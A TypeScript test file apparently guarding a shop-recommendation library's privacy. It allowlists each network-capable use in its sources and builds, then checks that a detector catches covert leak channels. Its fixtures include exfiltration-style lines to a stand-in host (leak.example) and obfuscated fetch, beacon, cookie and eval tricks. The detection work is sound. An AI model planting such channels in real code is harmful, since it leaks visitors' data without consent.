/**
 * Nothing in the sources, or in the built files, can send a byte, except for what is listed here with its reason. The journey
 * in `privacy/journey.test.ts` watches what really goes out.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { ROOT } from './build/built';
import { networkUses } from './network';

/** File, use, how often, and why it may stand. */
const ALLOWED: readonly (readonly [file: string, use: string, times: number, why: string])[] = [
  ['src/engine/artifact-loader.ts', 'fetch', 1, 'the one loader: GETs of files that the manifest names'],
  ['src/worker/start.ts', 'Worker', 2, "the engine's worker, from the library's own folder"],
  // Where globals are handed on as a whole.
  ['src/worker/worker.ts', 'globalThis as a value', 1, 'the port to the page'],
  ['src/compute/backends/webgpu.ts', 'globalThis as a value', 2, 'gives Node the constants of WebGPU'],
  ['src/compute/backends/webgpu.ts', 'navigator as a value', 1, 'gives Node `navigator.gpu`'],
  ['src/worker/protocol.ts', 'ping=', 1, 'a message to the worker, no attribute'],
  ['src/ui/loader.ts', 'globalThis as a value', 1, '`window.aisle`'],
  ['src/ui/loader.ts', 'serviceWorker', 1, 'whether the shop has one, which serves our scripts offline'],
  [
    'src/ui/loader.ts',
    'a computed global',
    1,
    'the array of `src/page/data-layer.ts`, before a page puts another in its place',
  ],
  ['src/page/data-layer.ts', 'globalThis as a value', 1, 'an array under a name that the shop chooses'],
  ['src/ui/push-event.ts', 'globalThis as a value', 1, 'the same array, from which the shop’s own tags read'],
  ['src/recommender/consent.ts', 'globalThis as a value', 1, 'likewise, whether it holds commands of Consent Mode'],
  ['src/recommender/consent-sources.ts', 'a computed global', 1, 'likewise, to read them'],
  ['src/ui/doctor/examine.ts', 'a computed global', 1, "the page's data layer, to count what it says"],
  // Elements of the widget.
  ['src/ui/frame.ts', 'createElement(…)', 1, 'the one maker of elements; the tags stand where it is called'],
  ['src/ui/frame.ts', 'setAttribute(…)', 1, 'likewise their attributes'],
  ['src/ui/cards.ts', '<img>', 1, 'a picture from the artifact, or, with `images: page`, from where the shop says'],
  ['src/ui/pictures.ts', 'src=', 1, 'its address'],
  ['src/ui/server-rendered.ts', 'href=', 1, "a link in the shop's own markup, to a host that it allows"],
  ['src/ui/sheet.ts', '<style>', 1, 'the looks of a slot, a constant without addresses'],
  ['src/ui/privacy/taste.ts', 'click', 1, 'opens the chooser of a file, which is read in the page'],
  ['src/ui/privacy/save-file.ts', 'click', 1, 'hands the visitor the export, from the page’s own memory'],
  // The demo is a shop of its own: it has links, pictures and a search.
  ['src/demo/dom.ts', 'createElement(…)', 1, 'the one maker of elements'],
  ['src/demo/dom.ts', 'setAttribute(…)', 2, 'likewise their attributes'],
  ['src/demo/product-grid.ts', '<img>', 1, 'a picture from the artifact'],
  ['src/demo/product-grid.ts', 'src=', 1, 'its address'],
  ['src/demo/shell.ts', '<form>', 1, 'the search, which stays in the page'],
  [
    'src/demo/shell.ts',
    'location.assign',
    1,
    'the search: a fragment, which no server sees, or a page of a shop of documents',
  ],
  ['src/demo/dom.ts', 'click', 1, 'hands the visitor a file, from the page’s own memory'],
  ['src/demo/policy.ts', '<meta>', 1, 'a policy that forbids more'],
  ['src/demo/policy.ts', 'http-equiv=', 1, 'likewise'],
  ['src/demo/storage.ts', 'caches', 2, 'the room that is filled, with noise, and freed'],
  ['src/demo/panel/plugs-tab.ts', 'location.assign', 1, 'the demo under another policy'],
  ['src/demo/shop.ts', 'fetch', 1, "the shop's own list of models and catalogue"],
  ['src/demo/network.ts', 'fetch', 2, 'replaced, to be made to fail'],
  ['src/demo/network.ts', 'window as a value', 1, 'what it is bound to'],
  [
    'src/demo/network.ts',
    'Worker',
    4,
    'replaced, so that each worker starts with the script that reports its requests',
  ],
  ['src/demo/worker.ts', 'fetch', 2, 'replaced, to be made to fail'],
  ['src/demo/worker.ts', 'self as a value', 1, 'what it is bound to'],
  ['src/demo/worker.ts', 'an import of a computed address', 1, "the worker's own script"],
  ['src/demo/panel/engine-tab.ts', 'replaceState', 1, 'the name of a backend'],
  ['src/demo/panel/engine-tab.ts', 'location.assign', 1, 'the shop with a document for each page'],
  ['src/demo/panel/plugs-tab.ts', 'replaceState', 1, 'the name of a backend'],
  ['src/demo/main.ts', 'replaceState', 1, 'the language'],
  ['src/demo/panel/models-tab.ts', 'replaceState', 1, 'the name of a model'],
  ['src/demo/panel/models-tab.ts', 'location.assign', 1, 'the name of a model with another catalogue'],
  ['src/demo/routes.ts', 'replaceState', 2, 'where the page was scrolled to; the address stays'],
  // The studio hands files over and opens the demo shop; what is dropped on it goes to its own worker.
  ['src/studio/index.html', 'rel="icon"', 1, 'inside the page'],
  ['src/studio/index.html', 'href="data:image/svg+xml,%3Csvg xmlns=\'http://www.w3.org/200…', 1, 'likewise'],
  ['src/studio/index.html', 'src="./main.ts"', 1, 'its own script'],
  ['src/studio/client.ts', 'Worker', 1, 'its own worker, from its own folder'],
  ['src/studio/thread.ts', 'Worker', 1, 'the same script once more, which shares a training'],
  ['src/studio/thread.ts', 'name', 1, 'by which the script knows that'],
  ['src/studio/main.ts', 'serviceWorker', 2, 'answers the demo shop with files of the browser’s own storage'],
  ['src/studio/main.ts', 'location.reload', 1, 'after everything was erased'],
  ['src/studio/service-worker.ts', 'self as a value', 1, 'with the events of a service worker'],
  ['src/studio/service-worker.ts', '"fetch"', 1, 'the event; it makes no request'],
  ['src/studio/models-section.ts', 'markup', 1, 'the tag, as a text to copy'],
  ['src/studio/models-section.ts', 'open', 1, 'the window of the demo shop'],
  ['src/studio/models-section.ts', 'location =', 1, 'its address, with the name of a model'],
  ['src/studio/models-section.ts', 'location.assign', 1, 'the same, where windows are blocked'],
  ['src/studio/plots.ts', 'createElement(…)', 1, 'the one maker of pictures; the tags stand where it is called'],
  ['src/studio/plots.ts', 'setAttribute(…)', 1, 'likewise their attributes'],
  // The command line runs in Node, on files.
  ['src/cli/doctor/site.ts', 'fetch', 1, '`aisle doctor` asks for the page that it is given, and for its files'],
  ['src/cli/static-server.ts', 'node:http', 1, '`aisle demo` serves the built page to this machine'],
  ['src/cli/thread.ts', 'node:worker_threads', 1, 'trains on more cores'],
  ['src/pipeline/files/threads.ts', 'node:worker_threads', 1, 'likewise'],
  ['src/pipeline/html.ts', 'markup', 3, "a report's own head and style, inside its file"],
  ['src/build/release.ts', 'node:child_process', 1, 'runs git, the tests and npm pack on this machine'],
  ['src/build/worker-files.ts', 'url()', 2, 'texts that the build writes: the pattern of an address'],
];

/** In the built files, by the script's name before its hash: what may stand in which. */
const BUILT: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  fetch: {
    worker: 'the artifact loader',
    'main-thread': 'the artifact loader, where no worker can start',
    wasm: "TensorFlow.js's loader of its own .wasm file",
    tensorflow: "TensorFlow.js's platform, for models saved elsewhere, which nothing asks for",
    dist: "the same, in the page's own thread",
    ops: 'the same, where it is bundled with the operations of all models',
  },
  'an import of a computed address': { worker: 'its own parts, at the addresses that the page has resolved' },
  XMLHttpRequest: { wasm: 'the same loader, in workers that lack fetch' },
  importScripts: { wasm: 'the same loader: whether it runs in a worker' },
  Worker: { host: "starts the engine's worker", recommender: 'likewise', page: 'likewise, in the script to embed' },
  '<img>': { slots: 'pictures of the widget', cards: 'likewise, in the library' },
  'src=': { slots: 'their addresses', cards: 'likewise' },
  'href=': { 'server-rendered': "a link in the shop's own markup" },
  'a computed global': {
    'consent-sources': "the page's data layer",
    embed: 'likewise',
    element: 'likewise',
    doctor: 'likewise',
  },
  'createElement(…)': { embed: 'the one maker of elements', element: 'likewise' },
  'setAttribute(…)': { embed: 'likewise their attributes', element: 'likewise' },
  '<style>': { embed: 'the looks of a slot', element: 'likewise' },
  '<source>': { webgl: 'no tag: the text of a shader' },
  click: { panel: 'hands the visitor the export' },
  serviceWorker: { embed: 'whether the shop has one', element: 'likewise' },
  submit: { webgpu: 'a command to the GPU' },
  'ping=': { host: 'a message to the worker', page: 'likewise', recommender: 'likewise' },
};
/** What hides a channel would have to be in our sources, too, where it is looked for; libraries do such things. */
const HIDING = /as a value$|^(constructor|Function)$/;

const READ = /\.([mc]?[jt]s|css|html)$/;
const textsIn = (folder: string): Map<string, string> =>
  new Map(
    readdirSync(join(ROOT, folder), { recursive: true, encoding: 'utf8' })
      .filter((name) => READ.test(name) && !name.endsWith('.d.ts'))
      .map((name) => [`${folder}/${name.replaceAll('\\', '/')}`, readFileSync(join(ROOT, folder, name), 'utf8')]),
  );

describe('the sources', () => {
  const lines = new Map<string, number[]>();
  for (const { file, use, line } of networkUses(textsIn('src'))) {
    lines.set(`${file}: ${use}`, [...(lines.get(`${file}: ${use}`) ?? []), line]);
  }

  test('can send nothing, except for what is listed', () => {
    const listed = new Map(ALLOWED.map(([file, use, times]) => [`${file}: ${use}`, times]));
    const others = [...lines].filter(([use, at]) => listed.get(use) !== at.length);
    expect(others.map(([use, at]) => `${use}, ${at.length} times, in lines ${at.join(', ')}`)).toEqual([]);
    expect([...listed.keys()].filter((use) => !lines.has(use))).toEqual([]);
  });

  test('have one place that makes requests for the library', () => {
    const fetches = [...lines.keys()].filter((use) =>
      /: (fetch|XMLHttpRequest|WebSocket|sendBeacon|EventSource)$/.test(use),
    );
    expect(fetches.filter((use) => !/^src\/(demo|cli)\//.test(use))).toEqual(['src/engine/artifact-loader.ts: fetch']);
  });

  test('the page of the demo loads its own script and an icon that is inside it', () => {
    const page = new Map([['index.html', readFileSync(join(ROOT, 'index.html'), 'utf8')]]);
    expect(networkUses(page).map(({ use }) => use)).toEqual([
      'rel="icon"',
      expect.stringMatching(/^href="data:image\/svg\+xml,/),
      'src="./src/demo/main.ts"',
    ]);
  });
});

describe('the built files', () => {
  test('can send nothing, except for what is listed', () => {
    const files = [...textsIn('dist/lib'), ...textsIn('dist/embed')];
    const different = new Map(files.map(([file, text]) => [text, file])); // most are the same in both
    const others = networkUses(new Map([...different].map(([text, file]) => [file, text]))).filter(({ file, use }) => {
      const stem = basename(file, '.js').replace(/^worker-(?=\w+-)|-([\w-]{7}|[0-9a-f]{8})$/g, '');
      return !HIDING.test(use) && BUILT[use]?.[stem] === undefined;
    });
    expect(different.size).toBeGreaterThan(10);
    expect(others).toEqual([]);
  });
});

/** Checks a line of source, which stands in the second line. */
function found(text: string, file = 'src/nn/a.ts'): string[] {
  const uses = networkUses(new Map([[file, `\n${text}`]]));
  expect(uses.filter(({ line }) => line !== 2)).toEqual([]);
  return uses.map(({ use }) => use);
}

describe('a leak is found:', () => {
  test.each([
    ['fetch', `fetch('https://leak.example/?item=' + itemId);`, 'fetch'],
    ['fetch of the global object', `globalThis.fetch(url);`, 'fetch'],
    ['fetch of the window', `window.fetch(url);`, 'fetch'],
    ['fetch of a frame', `frame.contentWindow.fetch(url);`, 'contentWindow'],
    ['fetch as an index', `globalThis['fetch'](url);`, '"fetch"'],
    ['fetch put together', `globalThis['fe' + 'tch'](url);`, 'a computed global'],
    ['fetch under a computed name', `self[name](url);`, 'a computed global'],
    ['fetch under another name', `const send = fetch;`, 'fetch'],
    ['fetch by destructuring', `const { fetch: send } = globalThis;`, 'fetch'],
    ['fetch by destructuring, under its name', `const { fetch } = window; fetch(url);`, 'fetch'],
    ['fetch as the default of a parameter', `function f(send = fetch) {}`, 'fetch'],
    ['fetch in a cast', `(fetch as (url: string) => void)(url);`, 'fetch'],
    ['fetch called aside', `(0, fetch)(url);`, 'fetch'],
    ['fetch bound', `const send = fetch.bind(null);`, 'fetch'],
    ['fetch in an object', `export const tools = { fetch };`, 'fetch'],
    ['fetch handed on', `load(fetch);`, 'fetch'],
    ['fetch by reflection', `Reflect.get(globalThis, key)(url);`, 'globalThis as a value'],
    ['fetch by reflection on something', `Reflect.get(tools, 'fetch')(url);`, '"fetch"'],
    ['fetch when the page is left', `fetchLater(url);`, 'fetchLater'],
    ['the rest of all globals', `const { name, ...rest } = globalThis;`, 'all globals'],
    ['the global object under another name', `const g = globalThis;`, 'globalThis as a value'],
    ['the window under another name', `const w = window as any;`, 'window as a value'],
    ['the window in an object', `const o = { window };`, 'window as a value'],
    ['the window of a document', `document.defaultView.open(url);`, 'defaultView'],
    ['the navigator under another name', `const n = globalThis.navigator ?? {};`, 'navigator as a value'],
    ['the page around this one', `window.parent.postMessage(itemId, '*');`, 'parent'],
    ['the page that opened this one', `opener.postMessage(itemId, '*');`, 'opener'],
    ['the name that a tab keeps from site to site', `window.name = itemId;`, 'name'],
    ['text that runs', `eval('fet' + 'ch(url)');`, 'eval'],
    ['a function from text', `new Function('url', text)(url);`, 'Function'],
    ['a function from text, by way of another', `(() => {}).constructor('return this')();`, 'constructor'],
    ['XMLHttpRequest', `new XMLHttpRequest();`, 'XMLHttpRequest'],
    ['sendBeacon', `navigator.sendBeacon(url, body);`, 'sendBeacon'],
    ['sendBeacon as an index', `navigator['sendBeacon'](url, body);`, '"sendBeacon"'],
    ['sendBeacon put together', `navigator['send' + 'Beacon'](url, body);`, 'a computed global'],
    ['WebSocket', `new WebSocket(url);`, 'WebSocket'],
    ['EventSource', `new EventSource(url);`, 'EventSource'],
    ['WebTransport', `new WebTransport(url);`, 'WebTransport'],
    ['RTCPeerConnection', `new RTCPeerConnection({ iceServers });`, 'RTCPeerConnection'],
    ['its older name', `new window.webkitRTCPeerConnection({ iceServers });`, 'webkitRTCPeerConnection'],
    ['a worker', `new Worker(url);`, 'Worker'],
    ['a shared worker', `new SharedWorker(url);`, 'SharedWorker'],
    ['a service worker', `navigator.serviceWorker.register(url);`, 'serviceWorker'],
    ['a worklet', `CSS.paintWorklet.addModule(url);`, 'addModule'],
    ['importScripts', `importScripts(url);`, 'importScripts'],
    ['an import of a computed address', `await import(url);`, 'an import of a computed address'],
    ['an import put together', `await import('https://leak.example/' + itemId);`, 'an import of a computed address'],
    ['an import from elsewhere', `import 'https://leak.example/a.js';`, 'an import from elsewhere'],
    ['an image', `new Image().src = url;`, 'Image'],
    ['an address that is set', `picture.src = url;`, '.src ='],
    ['an address that is set by an index', `picture['src'] = url;`, '.src ='],
    ['an attribute', `picture.setAttribute('src', url);`, 'src='],
    ['an attribute under a computed name', `picture.setAttribute(name, url);`, 'setAttribute(…)'],
    ['attributes in an object', `node('img', { src: url });`, '<img>'],
    ['sound', `new Audio(url);`, 'Audio'],
    ['a font', `document.fonts.add(new FontFace('a', source));`, 'FontFace'],
    ['a script', `document.createElement('script');`, '<script>'],
    ['a style sheet', `document.createElement('link');`, '<link>'],
    ['a frame', `document.createElement('iframe');`, '<iframe>'],
    ['an element under a computed name', `document.createElement(tag);`, 'createElement(…)'],
    ['a hint to look a name up', `link.rel = 'dns-prefetch';`, 'dns-prefetch'],
    ['a hint to connect', `link.rel = 'preconnect';`, 'preconnect'],
    ['a hint to load', `node('link', { rel: 'prefetch', href: url });`, 'prefetch'],
    ['a link that reports', `node('a', { href, ping: url });`, 'ping='],
    ['a form', `form.submit();`, 'submit'],
    ['a form, as if by the visitor', `form.requestSubmit();`, 'requestSubmit'],
    ['a link, as if by the visitor', `link.click();`, 'click'],
    ['another window', `window.open(url);`, 'open'],
    ['another window, by its bare name', `open(url);`, 'open'],
    ['another page', `location.href = url;`, 'location ='],
    ['another page, by the location', `window.location = url;`, '.location ='],
    ['another page, by a method', `location.replace(url);`, 'location.replace'],
    ['another page, by the history of navigations', `navigation.navigate(url);`, 'navigate'],
    ['an address that later requests refer to', `history.replaceState(null, '', '?item=' + itemId);`, 'replaceState'],
    ['a cookie', `document.cookie = 'item=' + itemId;`, 'cookie'],
    ['a cookie, by the store', `cookieStore.set('item', itemId);`, 'cookieStore'],
    ['a cache that loads', `caches.open('a');`, 'caches'],
    ['a style', `element.style.backgroundImage = address;`, '.backgroundImage ='],
    ['an address in a style', `sheet.replaceSync('a { background: url(https://leak.example/) }');`, 'url()'],
    ['an import in a style', `sheet.textContent = '@import ' + url;`, 'url()'],
    ['markup', `element.innerHTML = text;`, 'innerHTML'],
    ['markup in a text', `const text = '<img src=x>';`, 'markup'],
    ['markup that is inserted', `element.insertAdjacentHTML('beforeend', text);`, 'insertAdjacentHTML'],
    ['a whole page', `document.write(text);`, 'document.write'],
    ['a payment', `new PaymentRequest(methods, details);`, 'PaymentRequest'],
    ['sharing', `navigator.share({ url });`, 'share'],
    ['an auction', `navigator.runAdAuction(config);`, 'runAdAuction'],
    ["Node's requests", `import { request } from 'node:https';`, 'node:https'],
    ["Node's sockets", `import net from 'net';`, 'net'],
    ["Node's requests, by require", `require('http').get(url);`, 'http'],
  ])('%s', (_, text, use) => {
    expect(found(text)).toContain(use);
  });

  test.each([
    [
      'in a style sheet',
      'src/demo/a.css',
      'a { background: url(https://leak.example/); }',
      'url(https://leak.example/)',
    ],
    ['in an import of a style sheet', 'src/demo/a.css', '@import "https://leak.example/";', '@import'],
    ['in a page', 'index.html', '<img src="https://leak.example/">', 'src="https://leak.example/"'],
  ])('%s', (_, file, text, use) => {
    expect(found(text, file)).toContain(use);
  });
});

describe('no leak is', () => {
  test.each([
    ['a type', `type Fetch = typeof fetch; interface A { fetch: RequestInit; Worker: Worker }`],
    ['a word in a comment', `// fetch(url); new WebSocket(url);`],
    ['a word in a text', `throw new Error('fetch of the file failed; WebSocket');`],
    ['a question whether something is there', `'fetch' in globalThis && typeof Worker2 === 'function';`],
    ['a property that belongs to us', `globalThis.navigator?.language;`],
    ['a local of the name', `const open = (url: string) => url; open('a');`],
    ['a database', `indexedDB.open('aisle');`],
    ['a module of ours', `await import('./page');`],
    ['a link', `node('a', { href });`],
    ['a search for elements', `document.querySelectorAll('script');`],
  ])('%s', (_, text) => {
    expect(found(text)).toEqual([]);
  });
});
